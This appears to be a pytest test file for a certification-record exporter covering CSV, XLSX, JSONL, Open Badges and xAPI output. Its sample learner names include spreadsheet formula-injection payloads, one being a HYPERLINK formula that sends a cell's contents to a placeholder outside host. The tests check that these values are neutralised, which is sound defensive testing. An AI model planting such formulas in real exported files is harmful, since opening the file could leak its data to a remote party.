"""Each format round-trips: parse back what was written and compare it with the records it came from."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import zipfile
from decimal import Decimal

import openpyxl
import pytest

from xblocks.certification.data import CertificateData, CertificateEventData, LearnerData, SchoolData, TrackData
from xblocks.certification.exports import formats, presets
from xblocks.certification.exports.records import RecordBuilder, ceu
from xblocks.certification.exports.xapi import EARNED, StatementBuilder, statement_id

NAMES = ['=HYPERLINK("http://x.example/?"&A1)', 'Léa, "the" Benali', "ليلى حداد", "+1+1", "Plain Name"]


def certificate(
    n: int, name: str = "Plain Name", *, status: str = "active", cohort: str = "North 2026"
) -> CertificateData:
    return CertificateData(
        id=n,
        number=f"KF-2026-{n:05d}",
        status=status,
        issued_at=dt.datetime(2026, 6, 30, 9, 15, 30, tzinfo=dt.UTC),
        valid_from=dt.date(2026, 6, 30),
        valid_until=dt.date(2028, 6, 30) if n % 2 else None,
        learner=LearnerData(n, f"user{n}", f"user{n}@example.com", name, "", "en"),
        track=TrackData(1, "cloud-ops", "Cloud Operations Associate", "", 3, 7, "", 40.0),
        school=SchoolData(1, "north", "North School", "", "", "FR", ""),
        cohort_id=1,
        cohort_name=cohort,
        cohort_slug="n-2026",
        hours_total=16 + n / 3,
        hours_by_category={"ethics": 3.0},
        hours_by_source={},
        results=(),
        employee_id=f"E-{n}" if n % 3 else "",
        evidence={},
    )


CERTS = [certificate(n, NAMES[n % len(NAMES)], cohort="@SUM(1+1)" if n == 2 else "North 2026") for n in range(1, 8)]


def expected_rows(preset, *, typed_dates=False):
    row_of = presets.compile_preset(preset, typed_dates=typed_dates)
    builder = RecordBuilder()
    return [row_of(builder.build(cert)) for cert in CERTS]


def _never(done):
    return None


@pytest.mark.parametrize("slug", sorted(presets.BUILTIN))
def test_csv_round_trips_and_neutralises_text(slug):
    preset = presets.BUILTIN[slug]
    out = io.BytesIO()
    assert formats.write_csv(CERTS, out, preset=preset, progress=_never) == len(CERTS)
    rows = list(csv.reader(io.StringIO(out.getvalue().decode("utf-8"), newline="")))
    assert rows[0] == preset.headers
    for written, expected in zip(rows[1:], expected_rows(preset), strict=True):
        for cell, value in zip(written, expected, strict=True):
            text = formats.json_value(value)
            text = "" if text is None else str(value if isinstance(value, Decimal) else text)
            if text and text[0] in "=+-@\t\r":
                text = "'" + text
            assert cell == text
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


@pytest.mark.parametrize("slug", sorted(presets.BUILTIN))
def test_xlsx_round_trips_with_literal_text_and_numeric_hours(slug):
    preset = presets.BUILTIN[slug]
    out = io.BytesIO()
    formats.write_xlsx(CERTS, out, preset=preset, progress=_never)
    sheet = openpyxl.load_workbook(io.BytesIO(out.getvalue())).active
    rows = [list(row) for row in sheet.iter_rows(values_only=True)]
    assert rows[0] == preset.headers
    for written, expected in zip(rows[1:], expected_rows(preset, typed_dates=True), strict=True):
        for cell, value in zip(written, expected, strict=True):
            if isinstance(value, Decimal):
                assert cell == pytest.approx(float(value))
            elif isinstance(value, dt.datetime):
                assert cell == value.replace(tzinfo=None)
            elif isinstance(value, dt.date):
                assert cell.date() == value
            elif isinstance(value, int):
                assert cell == value
            elif value in ("", None):
                assert cell in ("", None)
            else:
                assert cell == ("'" + value if value[0] in "=+-@" else value)
    # no cell of the workbook is stored as a formula
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f"


def test_jsonl_round_trips_with_typed_values():
    preset = presets.BUILTIN["kafaat"]
    out = io.BytesIO()
    formats.write_jsonl(CERTS, out, preset=preset, progress=_never)
    lines = [json.loads(line) for line in out.getvalue().decode().splitlines()]
    expected = [
        dict(zip(preset.headers, [formats.json_value(v) for v in row], strict=True)) for row in expected_rows(preset)
    ]
    assert lines == expected
    assert lines[0]["full_name"] == CERTS[0].learner.full_name  # JSON is not a spreadsheet: no prefix


def test_ob_bundle_holds_one_credential_per_certificate_and_an_index():
    out = io.BytesIO()
    credential = lambda cert: {"id": f"urn:uuid:{cert.id:08d}", "name": cert.track.title}  # noqa: E731
    formats.write_ob_bundle(CERTS, out, credential_of=credential, progress=_never)
    with zipfile.ZipFile(io.BytesIO(out.getvalue())) as bundle:
        index = [json.loads(line) for line in bundle.read("index.jsonl").decode().splitlines()]
        assert [entry["number"] for entry in index] == [c.number for c in CERTS]
        for entry, cert in zip(index, CERTS, strict=True):
            assert json.loads(bundle.read(entry["file"])) == credential(cert)
            assert entry["credential_id"] == credential(cert)["id"]


def test_xapi_writes_one_statement_per_event_with_deterministic_ids():
    events = {
        cert.id: [
            CertificateEventData(cert.id * 10 + 1, cert.id, "issued", "active", "", "system", cert.issued_at, "h1", ""),
            CertificateEventData(
                cert.id * 10 + 2,
                cert.id,
                "suspended",
                "suspended",
                "fees",
                "staff",
                cert.issued_at + dt.timedelta(days=1),
                "h2",
                "h1",
            ),
        ]
        for cert in CERTS
    }
    builder = StatementBuilder()
    out = io.BytesIO()
    formats.write_xapi(CERTS, out, statements_of=lambda c: builder.statements(c, events[c.id]), progress=_never)
    statements = json.loads(out.getvalue())
    assert len(statements) == 2 * len(CERTS)
    first = statements[0]
    assert first["id"] == statement_id(CERTS[0].number, 11)
    assert first["verb"]["id"] == EARNED
    assert first["actor"]["account"]["name"] == "E-1"
    assert statements[1]["verb"]["id"].endswith("/suspended")
    assert first["timestamp"] == "2026-06-30T09:15:30.000Z"
    # no employee id: the actor is a salted hash, never the email
    no_id = next(s for s in statements if s["result"]["extensions"] and s["id"] == statement_id(CERTS[2].number, 31))
    assert "@" not in json.dumps(no_id["actor"]) and len(no_id["actor"]["account"]["name"]) == 64
    # same events, same ids: an LRS de-duplicates a repeated export
    again = io.BytesIO()
    formats.write_xapi(CERTS, again, statements_of=lambda c: builder.statements(c, events[c.id]), progress=_never)
    assert json.loads(again.getvalue()) == statements


@pytest.mark.parametrize(("minutes", "expected"), [(30, "0.1"), (45, "0.1"), (480, "0.8"), (980, "1.6"), (0, "0.0")])
def test_ceu_follows_iacet_rounding(minutes, expected):
    assert ceu(minutes) == Decimal(expected)


def test_progress_is_reported_per_row():
    seen = []
    formats.write_jsonl(CERTS, io.BytesIO(), preset=presets.BUILTIN["kafaat"], progress=seen.append)
    assert seen == list(range(1, len(CERTS) + 1))


DATE_FORMATS = {"date", "us_date", "datetime", "epoch_ms", "cornerstone_datetime"}


@pytest.mark.parametrize("slug", sorted(presets.BUILTIN))
def test_xlsx_dates_are_date_cells_with_a_date_number_format(slug):
    preset = presets.BUILTIN[slug]
    out = io.BytesIO()
    formats.write_xlsx(CERTS, out, preset=preset, progress=_never)
    sheet = openpyxl.load_workbook(io.BytesIO(out.getvalue())).active
    date_columns = [i for i, column in enumerate(preset.columns) if column.format in DATE_FORMATS]
    assert date_columns, "every built-in preset has dates"
    checked = 0
    for row in sheet.iter_rows(min_row=2):
        for index in date_columns:
            cell = row[index]
            if cell.value in (None, ""):
                continue  # no expiry date
            assert cell.is_date, (preset.headers[index], cell.value, cell.data_type)
            assert isinstance(cell.value, dt.datetime)
            assert "yy" in cell.number_format and "d" in cell.number_format
            checked += 1
    assert checked >= len(CERTS)


def test_xlsx_drops_control_characters_inside_text_that_xml_cannot_carry():
    cert = certificate(1, "Léa\x01 Benali\x1f", cohort="North\x0b 2026")
    out = io.BytesIO()
    formats.write_xlsx([cert], out, preset=presets.BUILTIN["kafaat"], progress=_never)
    rows = list(openpyxl.load_workbook(io.BytesIO(out.getvalue())).active.iter_rows(values_only=True))
    header = list(rows[0])
    assert rows[1][header.index("full_name")] == "Léa Benali"
    assert rows[1][header.index("cohort_name")] == "North 2026"
